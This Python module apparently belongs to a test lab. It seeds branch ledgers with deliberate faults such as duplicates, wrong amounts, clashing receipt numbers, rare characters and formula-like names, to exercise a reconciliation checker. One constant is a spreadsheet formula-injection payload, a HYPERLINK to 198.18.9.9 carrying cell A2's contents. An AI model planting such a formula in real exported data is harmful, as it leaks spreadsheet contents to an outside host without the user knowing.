"""Spoiling lines of the branches' own books; the office goes on behind them."""

from __future__ import annotations

from decimal import Decimal

from dr.engine.core.values import Text
from dr.lab.errors import LabUsageError
from dr.lab.names import RARE
from dr.lab.register import Change
from dr.lab.spoiling.plans import Case, Edit, Kind, Plan, Stand, Wish, pick
from dr.lab.spoiling.statements import set_fields
from dr.lab.spoiling.truths import NOTHING, Fields, Truth

_PRIVATE = "\ue863"
"""䶮 as fonts of GBK had it: in the area for private use."""
_FORMULA = '=HYPERLINK("http://198.18.9.9/?"&A2,"张三")'


def _plan(pairs: list[tuple[Case, Edit, Truth]], changes: list[Change] | None = None) -> Plan:
    edits: dict[str, tuple[Edit, ...]] = {}
    for case, edit, _ in pairs:
        edits[case.branch] = (*edits.get(case.branch, ()), edit)
    return Plan(tuple(truth for *_, truth in pairs), tuple(changes or ()), edits)


def _truth(
    wish: Wish,
    break_class: str,
    case: Case,
    fields: Fields,
    subclass: str = "",
    where: str = "ledger",
) -> Truth:
    return Truth(wish.what, break_class, case.branch, subclass, case.key, fields, where)


def doubled(stand: Stand, wish: Wish) -> Plan:
    """Have lines twice."""
    cases = pick(stand.cases, wish)
    return _plan(
        [
            (case, Edit(case.key, copy=True), _truth(wish, "dup_key_ledger", case, {}))
            for case in cases
        ]
    )


def amount(stand: Stand, wish: Wish) -> Plan:
    """Have another amount in the book than the centre rightly has."""
    pairs = []
    for case in pick([case for case in stand.cases if case.ledger["amount"]], wish):
        wrong = str(Decimal(case.ledger["amount"]) + 1000)
        fields: Fields = {"amount": (case.central["amount"], wrong)}
        truth = _truth(wish, "field_diff", case, fields)
        pairs.append((case, Edit(case.key, {"amount": wrong}), truth))
    return _plan(pairs)


def receipt(stand: Stand, wish: Wish) -> Plan:
    """Have the receipt number of another branch's case."""
    pairs = []
    taken: set[str] = set()
    for case in pick(stand.cases, wish):
        taken.add(case.key)
        other = next(
            (c for c in stand.cases if c.branch != case.branch and c.key not in taken), None
        )
        if other is None:
            raise LabUsageError(
                "two branches have one receipt number only when there are two",
                hint="Bring a lab up with --branches 2 or more.",
            )
        taken.add(other.key)
        wrong = other.ledger["receipt"]
        truth = Truth(
            wish.what,
            "dup_key_ledger",
            case.branch,
            "receipt_at_two_branches",
            case.key,
            {"receipt": (case.central["receipt"], wrong)},
            "ledger",
            detail={"with": other.key, "branch": other.branch, "touched": [other.key]},
        )
        pairs.append((case, Edit(case.key, {"receipt_no": wrong}), truth))
    return _plan(pairs)


def rare_names(stand: Stand, wish: Wish) -> Plan:
    """Give holders rare characters on both sides; every third line has the private-use one."""
    pairs, changes = [], []
    for number, case in enumerate(pick(stand.cases, wish)):
        name = "王" + (RARE[number % len(RARE)])
        written = name.replace("䶮", _PRIVATE)
        fields: Fields = {"holder": (name, written)}
        found = NOTHING if name == written else "format_only"
        truth = _truth(wish, found, case, fields, where="both")
        pairs.append((case, Edit(case.key, {"holder": written}), truth))
        changes.append(set_fields(case, {"holder": name}))
    return _plan(pairs, changes)


def formula_names(stand: Stand, wish: Wish) -> Plan:
    """Have holders in the book that a spreadsheet would carry out."""
    pairs = []
    for case in pick(stand.cases, wish):
        fields: Fields = {"holder": (case.central["holder"], _FORMULA)}
        truth = _truth(wish, "field_diff", case, fields, "formula")
        pairs.append((case, Edit(case.key, {"holder": _FORMULA}), truth))
    return _plan(pairs)


KINDS = (
    Kind("ledger-double", Text("lines of a book are there twice", "台账行重复"), doubled),
    Kind(
        "ledger-amount",
        Text("lines of a book have a wrong amount", "台账金额有误"),
        amount,
    ),
    Kind(
        "ledger-receipt",
        Text("lines have the receipt number of another branch's case", "两个网点的受理号相同"),
        receipt,
        count=2,
    ),
    Kind(
        "rare-names",
        Text(
            "holders have rare characters, one of them in a private-use form",
            "权利人姓名含生僻字",
        ),
        rare_names,
    ),
    Kind(
        "formula-names",
        Text("holders of a book begin as a formula does", "权利人姓名以公式符号开头"),
        formula_names,
        count=1,
    ),
)
